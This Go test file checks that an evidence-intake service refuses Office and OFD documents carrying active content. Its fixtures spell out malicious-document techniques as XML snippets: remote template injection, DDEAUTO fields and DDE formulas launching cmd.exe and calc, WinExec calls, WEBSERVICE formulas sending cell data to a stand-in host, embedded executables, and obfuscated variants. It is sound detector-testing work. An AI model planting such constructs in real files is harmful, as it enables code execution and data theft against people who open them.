package evidence_test

import (
	"fmt"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"duban/evidence"
)

// relation is a part of relationships with one to something outside.
func relation(kind, target string) string { return bound(kind, target, ` TargetMode="External"`) }

func bound(kind, target, mode string) string {
	return fmt.Sprintf(`<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" Target="%s"%s/></Relationships>`, kind, target, mode)
}

func word(body string) []string {
	return []string{"word/document.xml", `<w:document xmlns:w="w"><w:body>` + body + `</w:body></w:document>`}
}

func run(instruction string) string {
	return `<w:r><w:instrText xml:space="preserve">` + instruction + `</w:instrText></w:r>`
}

func fieldMark(kind string) string { return `<w:r><w:fldChar w:fldCharType="` + kind + `"/></w:r>` }

// utf16le is a text as UTF-16 with its mark.
func utf16le(text string) string {
	var b strings.Builder
	b.WriteString("\xff\xfe")
	for _, c := range text {
		b.WriteRune(c)
		b.WriteByte(0)
	}
	return b.String()
}

// A document is refused for what it does: what it fetches, starts or carries,
// however the parts are called.
func TestWhatActsInOffice(t *testing.T) {
	t.Parallel()
	s := newShelf(t, 1<<22)
	const doc, sheet, show = "wordprocessingml.document", "spreadsheetml.sheet", "presentationml.presentation"
	vba := string(compoundFile(compoundPart{"VBA/dir", "x"}))
	program := string(compoundFile(compoundPart{"\x01Ole10Native", "\x20\x00\x00\x00\x02\x00setup.exe\x00C:\\setup.exe\x00"}))
	for name, one := range map[string]struct {
		kind  string
		parts []string
		code  string
	}{
		"a template from the web":        {doc, []string{"word/_rels/settings.xml.rels", relation("attachedTemplate", "http://a.example/x.dotm")}, "file_links_outside"},
		"a template from a server":       {doc, []string{"word/_rels/settings.xml.rels", relation("attachedTemplate", `file:///\\a.example\x.dotm`)}, "file_links_outside"},
		"a template, strict":             {doc, []string{"word/_rels/settings.xml.rels", strings.ReplaceAll(relation("attachedTemplate", "http://a.example/x"), "schemas.openxmlformats.org/officeDocument/2006", "purl.oclc.org/ooxml/officeDocument")}, "file_links_outside"},
		"a template in UTF-16":           {doc, []string{"word/_rels/settings.xml.rels", utf16le(strings.Replace(relation("attachedTemplate", "http://a.example/x"), "?>", ` encoding="UTF-16"?>`, 1))}, "file_links_outside"},
		"a template, letters in digits":  {doc, []string{"word/_rels/settings.xml.rels", relation("attachedTemplate", "h&#116;tp://a.example/x")}, "file_links_outside"},
		"relationships of another name":  {doc, []string{"word/_rels/other.xml", relation("attachedTemplate", "http://a.example/x")}, "file_links_outside"},
		"a picture from the web":         {doc, []string{"word/_rels/document.xml.rels", relation("image", "https://a.example/x.png")}, "file_links_outside"},
		"an object from the web":         {show, []string{"ppt/slides/_rels/slide1.xml.rels", relation("oleObject", "script:http://a.example/x.sct")}, "file_links_outside"},
		"an object that is a program":    {doc, []string{"word/_rels/document.xml.rels", relation("oleObject", "file:///C:/Windows/System32/calc.exe")}, "file_links_outside"},
		"a frame":                        {doc, []string{"word/_rels/webSettings.xml.rels", relation("frame", "a.htm")}, "file_links_outside"},
		"a document in the document":     {doc, []string{"word/_rels/document.xml.rels", relation("subDocument", "http://a.example/x.docx")}, "file_links_outside"},
		"another format in the document": {doc, []string{"word/_rels/document.xml.rels", bound("aFChunk", "/word/a.bin", "")}, "file_embedded"},
		"another format, by its element": {doc, word(`<w:altChunk r:id="r1"/>`), "file_embedded"},
		"a page among the parts":         {doc, []string{"word/a.bin", "<html><body/></html>"}, "file_macros"},
		"a link to a program":            {doc, []string{"word/_rels/document.xml.rels", relation("hyperlink", "file:///C:/Windows/System32/cmd.exe")}, "file_link"},
		"a link to a server's file":      {sheet, []string{"xl/worksheets/_rels/sheet1.xml.rels", relation("hyperlink", `\\a.example\share\x.xlsx`)}, "file_link"},
		"a link to a macro":              {sheet, []string{"xl/worksheets/_rels/sheet1.xml.rels", relation("hyperlink", "macro://run")}, "file_link"},
		"a link that searches":           {doc, []string{"word/_rels/document.xml.rels", relation("hyperlink", "search-ms:query=x")}, "file_link"},
		"a field":                        {doc, word(`<w:fldSimple w:instr=" DDEAUTO c:\\windows\\cmd.exe &quot;/k calc&quot; "/>`), "file_runs_program"},
		"a field over runs":              {doc, word(fieldMark("begin") + run(" DD") + run("EAU") + `<w:r><w:t>x</w:t></w:r>` + run("TO c:\\\\cmd.exe") + fieldMark("separate") + fieldMark("end")), "file_runs_program"},
		"a field over paragraphs":        {doc, word(`<w:p>` + fieldMark("begin") + run(" D") + `</w:p><w:p>` + run("DE x") + fieldMark("end") + `</w:p>`), "file_runs_program"},
		"a field in a field":             {doc, word(fieldMark("begin") + run(" IF 1=1 ") + fieldMark("begin") + run("dde a b") + fieldMark("end") + fieldMark("end")), "file_runs_program"},
		"a field of a field":             {doc, word(fieldMark("begin") + fieldMark("begin") + run("QUOTE") + fieldMark("separate") + `<w:r><w:t>DDEAUTO</w:t></w:r>` + fieldMark("end") + run(" a b") + fieldMark("end")), "file_runs_program"},
		"a field in a heading":           {doc, []string{"word/header1.xml", `<w:hdr><w:fldSimple w:instr="DDE a b"/></w:hdr>`}, "file_runs_program"},
		"a field that fetches":           {doc, word(`<w:fldSimple w:instr="INCLUDEPICTURE &quot;http://a.example/x.png&quot; \d"/>`), "file_links_outside"},
		"a field that fetches a text":    {doc, word(`<w:fldSimple w:instr="INCLUDETEXT \\\\a.example\\share\\x.docx"/>`), "file_links_outside"},
		"a field that is a link":         {doc, word(`<w:fldSimple w:instr="HYPERLINK &quot;C:\\x\\run.exe&quot;"/>`), "file_link"},
		"another program asked":          {sheet, []string{"xl/externalLinks/externalLink1.xml", `<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`}, "file_runs_program"},
		"an object linked":               {sheet, []string{"xl/externalLinks/externalLink1.xml", `<externalLink><oleLink progId="Word.Document.8"/></externalLink>`}, "file_links_outside"},
		"a formula that asks":            {sheet, []string{"xl/worksheets/sheet1.xml", `<worksheet><sheetData><row><c><f>cmd|'/c calc'!A0</f></c></row></sheetData></worksheet>`}, "file_runs_program"},
		"a formula in digits":            {sheet, []string{"xl/worksheets/sheet1.xml", `<worksheet><sheetData><row><c><f>cmd&#124;'/c calc'!A0</f></c></row></sheetData></worksheet>`}, "file_runs_program"},
		"a formula in UTF-16":            {sheet, []string{"xl/worksheets/sheet1.xml", utf16le(`<worksheet><f>cmd|'/c calc'!A0</f></worksheet>`)}, "file_runs_program"},
		"a name that asks":               {sheet, []string{"xl/workbook.xml", `<workbook><definedNames><definedName name="a">cmd|'/c calc'!A0</definedName></definedNames></workbook>`}, "file_runs_program"},
		"a formula that fetches":         {sheet, []string{"xl/worksheets/sheet1.xml", `<worksheet><f>_xlfn.WEBSERVICE("http://a.example/"&amp;A1)</f></worksheet>`}, "file_links_outside"},
		"a formula of a library":         {sheet, []string{"xl/worksheets/sheet1.xml", `<worksheet><f>CALL("kernel32","WinExec","JCJ","calc",0)</f></worksheet>`}, "file_runs_program"},
		"a query on opening":             {sheet, []string{"xl/connections.xml", `<connections><connection id="1" refreshOnLoad="1"/></connections>`}, "file_links_outside"},
		"an action":                      {show, []string{"ppt/slides/slide1.xml", `<p:sld><a:hlinkClick r:id="" action="ppaction://macro?name=x"/></p:sld>`}, "file_runs_program"},
		"an action on passing by":        {show, []string{"ppt/slides/slide1.xml", `<p:sld><a:hlinkMouseOver r:id="r1" action="ppaction://program"/></p:sld>`}, "file_runs_program"},
		"macros by their content":        {doc, []string{"word/media/image1.png", vba}, "file_macros"},
		"macros by their relationship":   {doc, []string{"word/_rels/document.xml.rels", bound("vbaProject", "a.bin", "")}, "file_macros"},
		"a packed file":                  {doc, []string{"word/embeddings/oleObject1.bin", program}, "file_embedded"},
		"a packed file under any name":   {sheet, []string{"xl/media/a.emf", program}, "file_embedded"},
		"an object nobody can read":      {doc, []string{"word/embeddings/oleObject1.bin", "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1MZ"}, "file_embedded"},
		"an object of no kind":           {doc, []string{"word/_rels/document.xml.rels", bound("oleObject", "embeddings/a.bin", ""), "word/embeddings/a.bin", "anything"}, "file_embedded"},
		"a program":                      {doc, []string{"word/media/image1.png", "MZ\x90\x00\x03\x00\x00\x00"}, "file_embedded"},
		"an archive":                     {doc, []string{"word/media/image1.png", string(zipped(t, "a.txt", "x"))}, "file_embedded"},
		"macros in a workbook in it":     {show, []string{"ppt/embeddings/a.xlsx", string(office(t, sheet, "xl/a.bin", vba))}, "file_macros"},
		"a control":                      {doc, []string{"word/activeX/activeX1.xml", `<ax:ocx ax:classid="{D27CDB6E-AE6D-11CF-96B8-444553540000}"/>`}, "file_macros"},
		"a ribbon that runs":             {doc, []string{"customUI/customUI.xml", `<customUI onLoad="x.dotm!run"/>`}, "file_macros"},
		"an add-in of the web":           {doc, []string{"word/webextensions/webextension1.xml", `<we:webextension/>`}, "file_macros"},
		"a sheet of macros":              {sheet, []string{"xl/worksheets/sheet9.xml", `<xm:macrosheet/>`}, "file_macros"},
		"XML that cannot be read":        {doc, []string{"word/document.xml", "<w:document><w:body"}, "file_cannot_be_checked"},
	} {
		_, err := s.Receive(t.Context(), "a"+map[string]string{doc: ".docx", sheet: ".xlsx", show: ".pptx"}[one.kind], strings.NewReader(string(office(t, one.kind, one.parts...))))
		refused(t, err, one.code, name)
	}
	types := `<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>` +
		`<Override PartName="/word/data.xml" ContentType="application/vnd.ms-office.v&#98;aProject"/></Types>`
	_, err := s.Receive(t.Context(), "a.docx", strings.NewReader(string(zipped(t, "[Content_Types].xml", types, "word/data.xml", "x"))))
	refused(t, err, "file_macros", "macros by their type")
}

func refused(t *testing.T, err error, code, name string) {
	t.Helper()
	var refusal *evidence.Refusal
	require.ErrorAs(t, err, &refusal, name)
	require.Equal(t, code, refusal.Code, name)
	require.NotEmpty(t, refusal.ZH, name)
}

// What documents carry by their own rules, and links that a person clicks on, do
// nothing.
func TestWhatDoesNotActInOffice(t *testing.T) {
	t.Parallel()
	s := newShelf(t, 1<<22)
	const doc, sheet, show = "wordprocessingml.document", "spreadsheetml.sheet", "presentationml.presentation"
	for name, one := range map[string]struct {
		kind  string
		parts []string
	}{
		"links":                        {doc, []string{"word/_rels/document.xml.rels", relation("hyperlink", "https://a.example/javascript/launch.exe")}},
		"a letter":                     {doc, []string{"word/_rels/document.xml.rels", relation("hyperlink", "mailto:a@a.example")}},
		"a paper beside it":            {doc, []string{"word/_rels/document.xml.rels", relation("hyperlink", "附件/方案.docx")}},
		"an address without http":      {doc, []string{"word/_rels/document.xml.rels", relation("hyperlink", "www.a.com")}},
		"the writer's own template":    {doc, []string{"word/_rels/settings.xml.rels", relation("attachedTemplate", `file:///C:\Users\wang\Templates\red.dotm`)}},
		"a picture on the disk":        {doc, []string{"word/_rels/document.xml.rels", relation("image", `file:///D:\a.png`)}},
		"another workbook":             {sheet, []string{"xl/externalLinks/_rels/externalLink1.xml.rels", relation("externalLinkPath", "台账.xlsx")}},
		"fields":                       {doc, word(fieldMark("begin") + run(" PAGE ") + fieldMark("separate") + `<w:r><w:t>DDEAUTO</w:t></w:r>` + fieldMark("end") + `<w:fldSimple w:instr="HYPERLINK &quot;http://a.example&quot;"/>`)},
		"a text about fields":          {doc, word(`<w:r><w:t>DDEAUTO cmd.exe, INCLUDEPICTURE "http://a.example"</w:t></w:r>`)},
		"formulas":                     {sheet, []string{"xl/worksheets/sheet1.xml", `<worksheet><f>IF(A1="a|b",'x|y'!B2,HYPERLINK("https://a.example"))</f><f>RECALL(1)+PUTCALL(2)</f></worksheet>`}},
		"a text with a bar":            {sheet, []string{"xl/sharedStrings.xml", `<sst><si><t>=cmd|'/c calc'!A0</t></si></sst>`}},
		"the workbook behind a chart":  {show, []string{"ppt/charts/_rels/chart1.xml.rels", bound("package", "../embeddings/a.xlsx", ""), "ppt/embeddings/a.xlsx", string(office(t, sheet, "xl/worksheets/sheet1.xml", "<worksheet/>"))}},
		"an old workbook in it":        {doc, []string{"word/_rels/document.xml.rels", bound("oleObject", "embeddings/a.bin", ""), "word/embeddings/a.bin", string(workbook(nil))}},
		"a jump to a slide":            {show, []string{"ppt/slides/slide1.xml", `<p:sld><a:hlinkClick action="ppaction://hlinksldjump"/></p:sld>`}},
		"text in GB 18030":             {doc, []string{"word/document.xml", "<?xml version=\"1.0\" encoding=\"GB18030\"?><w:document>\xd0\xf2</w:document>"}},
		"a drawing of before, no XML":  {sheet, []string{"xl/drawings/vmlDrawing1.vml", `<xml><v:shape><br>x</v:shape></xml>`}},
		"the MZ of a text":             {doc, []string{"word/a.txt", "MZ is no program"}},
		"a map's source, not fetched":  {sheet, []string{"xl/connections.xml", `<connections><connection id="1"><webPr xml="1" url="http://a.example/x.xml"/></connection></connections>`}},
		"a picture packed as pictures": {doc, []string{"word/media/a.emz", "\x1f\x8b\x08\x00"}},
	} {
		_, err := s.Receive(t.Context(), "a"+map[string]string{doc: ".docx", sheet: ".xlsx", show: ".pptx"}[one.kind], strings.NewReader(string(office(t, one.kind, one.parts...))))
		require.NoError(t, err, name)
	}
}

// An OFD has its invoice's data with it, and links; programs and scripts it has
// not.
func TestOFD(t *testing.T) {
	t.Parallel()
	s := newShelf(t, 1<<22)
	_, err := s.Receive(t.Context(), "a.ofd", strings.NewReader(string(zipped(t, "OFD.xml", "<ofd:OFD/>", "Doc_0/Attachs/invoice.xml", "<eInvoice/>",
		"Doc_0/Pages/Page_0/Content.xml", `<ofd:Page><ofd:Action Event="CLICK"><ofd:URI URI="https://a.example"/></ofd:Action></ofd:Page>`))))
	require.NoError(t, err)
	for name, one := range map[string]struct{ part, content, code string }{
		"a link to a program": {"Doc_0/Document.xml", `<ofd:Document><ofd:URI URI="file:///C:/x.exe"/></ofd:Document>`, "file_link"},
		"a script by a link":  {"Doc_0/Document.xml", `<ofd:Document><ofd:URI URI="javascript:alert(1)"/></ofd:Document>`, "file_link"},
		"a program":           {"Doc_0/Attachs/a.dat", "MZ\x90\x00\x03", "file_embedded"},
		"a page":              {"Doc_0/Attachs/a.dat", "<html><script>x</script></html>", "file_macros"},
		"an archive":          {"Doc_0/Attachs/a.dat", string(zipped(t, "a.txt", "x")), "file_embedded"},
		"a document in it":    {"Doc_0/Attachs/a.dat", string(office(t, "wordprocessingml.document", "word/_rels/settings.xml.rels", relation("attachedTemplate", "http://a.example/x"))), "file_links_outside"},
	} {
		_, err := s.Receive(t.Context(), "a.ofd", strings.NewReader(string(zipped(t, "OFD.xml", "<ofd:OFD/>", one.part, one.content))))
		refused(t, err, one.code, name)
	}
}
